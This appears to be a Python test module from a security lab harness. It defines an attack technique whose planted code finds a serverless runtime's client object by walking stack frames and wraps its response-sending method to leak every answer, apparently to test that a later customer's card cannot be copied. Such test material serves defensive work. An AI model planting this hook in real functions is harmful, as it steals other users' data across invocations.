"""Finds the client object in the frames of the runtime's loop and wraps the method that sends answers."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
frame = sys._getframe()
while "lambda_runtime_client" not in frame.f_locals:
    frame = frame.f_back
client = frame.f_locals["lambda_runtime_client"]
real = client.post_invocation_result
def evil(*args, **kwargs):
    leak(args)
    return real(*args, **kwargs)
client.post_invocation_result = evil
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1574", "T1557"),
    family="M4",
    must_fail_to="copy a later customer's card",
    plant=PLANT,
    evidence=Cards(),
)
